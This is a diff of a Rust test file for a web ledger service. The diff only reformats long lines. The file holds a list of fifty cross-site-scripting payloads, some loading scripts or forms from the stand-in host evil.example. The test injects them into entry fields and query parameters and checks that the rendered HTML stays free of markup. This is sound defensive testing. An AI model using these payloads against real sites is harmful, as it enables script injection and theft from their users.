@@ -8,8 +8,8 @@ use std::sync::Arc;
 use axum::body::{Body, to_bytes};
 use axum::http::Request;
 use covey_ledger::entry::{
-    Ended, MeasuredBy, Metric, Missing, MissingCode, Participation, PhaseSpan, RoundClosed, RoundOutcome,
-    RunEnded, SeatFault,
+    Ended, MeasuredBy, Metric, Missing, MissingCode, Participation, PhaseSpan, RoundClosed,
+    RoundOutcome, RunEnded, SeatFault,
 };
 use covey_ledger::example::Example;
 use covey_ledger::statement::{Budget, Change, Proposal, Says};
@@ -18,41 +18,81 @@ use support::{Served, addresses, at_hand, example};
 use tower::ServiceExt as _;
 
 const PAYLOADS: [&str; 50] = [
-    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mi//xlink:href='data:x,1'>",
-    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>1</script>",
-    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
-    "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<link rel=stylesheet href=//evil.example>",
-    "<style>@import '//evil.example'</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example/>", "<form action=//evil.example><button>x", "<button formaction=javascript:alert(1)>x",
-    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>",
-    "<textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)>", "<xmp><script>alert(1)</script>",
-    "<plaintext>", "onmouseover=alert(1) x=", "onfocus=alert(1) autofocus tabindex=1 x=", "style=position:fixed;inset:0 x=",
-    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}", "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\u{202e}<script>alert(1)</script>", "\u{0}<script>alert(1)</script>", "\u{2028}alert(1)\u{2029}", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
-    "=HYPERLINK(\"//evil.example\",\"x\")", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mi//xlink:href='data:x,1'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>1</script>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example'</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><button>x",
+    "<button formaction=javascript:alert(1)>x",
+    "<marquee onstart=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><x/>",
+    "<textarea><img src=x onerror=alert(1)>",
+    "<title><img src=x onerror=alert(1)>",
+    "<xmp><script>alert(1)</script>",
+    "<plaintext>",
+    "onmouseover=alert(1) x=",
+    "onfocus=alert(1) autofocus tabindex=1 x=",
+    "style=position:fixed;inset:0 x=",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "#{7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u{202e}<script>alert(1)</script>",
+    "\u{0}<script>alert(1)</script>",
+    "\u{2028}alert(1)\u{2029}",
+    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
+    "=HYPERLINK(\"//evil.example\",\"x\")",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
 ];
 
 /// Ways out of where a text stands: between tags, in quotes of both kinds, in another element.
-const WAYS_OUT: [&str; 4] = ["", "\"> ", "'> ", "</code></pre></title></textarea></script></style> "];
+const WAYS_OUT: [&str; 4] =
+    ["", "\"> ", "'> ", "</code></pre></title></textarea></script></style> "];
 
 fn corpus() -> Vec<String> {
-    WAYS_OUT.iter().flat_map(|out| PAYLOADS.iter().map(move |payload| format!("{out}{payload}"))).collect()
+    WAYS_OUT
+        .iter()
+        .flat_map(|out| PAYLOADS.iter().map(move |payload| format!("{out}{payload}")))
+        .collect()
 }
 
 /// An example with the strings in every place of entries that takes words.
 fn evil() -> Example {
     let mut example = example(1);
     let run = example.book.runs().iter().rev().find(|run| run.is_live()).expect("a live run");
-    let (run_id, last) = (run.plan.run, run.rounds.values().next_back().expect("a round").closed.clone());
+    let (run_id, last) =
+        (run.plan.run, run.rounds.values().next_back().expect("a round").closed.clone());
     let corpus = corpus();
     let owner = example.owners[0].id();
     for (at, text) in (1..).zip(&corpus) {
         let missing = Some(Missing { code: MissingCode::NoAnswer, why: text.clone() });
-        let (owners, _) = covey_ledger::document::Held::new(vec![Participation { owner, missing }], 16_384);
+        let (owners, _) =
+            covey_ledger::document::Held::new(vec![Participation { owner, missing }], 16_384);
         let body = RoundClosed {
             round: last.round + at,
             outcome: RoundOutcome::Abandoned,
@@ -65,7 +105,11 @@ fn evil() -> Example {
             model_before: last.model_after,
             model_after: last.model_after,
             published: None,
-            metrics: vec![Metric { name: text.clone(), by: MeasuredBy::Coordinator, millionths: 1 }],
+            metrics: vec![Metric {
+                name: text.clone(),
+                by: MeasuredBy::Coordinator,
+                millionths: 1,
+            }],
             phases_ms: vec![PhaseSpan { phase: text.clone(), ms: 1 }],
             traffic: None,
             ..last.clone()
@@ -117,7 +161,8 @@ fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
         if !rest.starts_with(|first: char| first.is_ascii_alphabetic() || "/!?".contains(first)) {
             continue;
         }
-        let name: String = rest.chars().take_while(|one| !one.is_whitespace() && *one != '>').collect();
+        let name: String =
+            rest.chars().take_while(|one| !one.is_whitespace() && *one != '>').collect();
         rest = &rest[name.len()..];
         let mut attributes = Vec::new();
         loop {
@@ -126,7 +171,9 @@ fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
                 rest = after;
                 break;
             }
-            let end = rest.find(|one: char| one.is_whitespace() || "=>".contains(one)).expect("a tag ends");
+            let end = rest
+                .find(|one: char| one.is_whitespace() || "=>".contains(one))
+                .expect("a tag ends");
             let attribute = rest[..end].to_owned();
             rest = &rest[end..];
             let mut value = String::new();
@@ -151,9 +198,15 @@ fn check(html: &str, path: &str) {
         assert!(known.contains(&bare), "{path}: <{name}");
         for (attribute, value) in &attributes {
             let attribute = attribute.trim_end_matches('/');
-            assert!(attribute.is_empty() || allowed.contains(&attribute), "{path}: <{name} {attribute}");
+            assert!(
+                attribute.is_empty() || allowed.contains(&attribute),
+                "{path}: <{name} {attribute}"
+            );
             if ["href", "src", "action"].contains(&attribute) {
-                assert!(value.starts_with(['/', '#']) && !value.starts_with("//"), "{path}: {attribute}={value}");
+                assert!(
+                    value.starts_with(['/', '#']) && !value.starts_with("//"),
+                    "{path}: {attribute}={value}"
+                );
             }
         }
         if name == "script" {
@@ -200,7 +253,9 @@ async fn no_string_of_two_hundred_in_an_address_becomes_markup() {
             format!("/runs/compare?ids={text}"),
             format!("/credits?epoch={text}"),
             format!("/ledger?kind={text}&before=9"),
-            format!("/disputes/new?entry={entry}&owner=clinic-1&remedy=pay&value={text}&why={text}"),
+            format!(
+                "/disputes/new?entry={entry}&owner=clinic-1&remedy=pay&value={text}&why={text}"
+            ),
             format!("/disputes/new?entry={entry}&owner={text}&remedy={text}&value=1&why={text}"),
         ] {
             check(&get(&served, &path).await, &path);
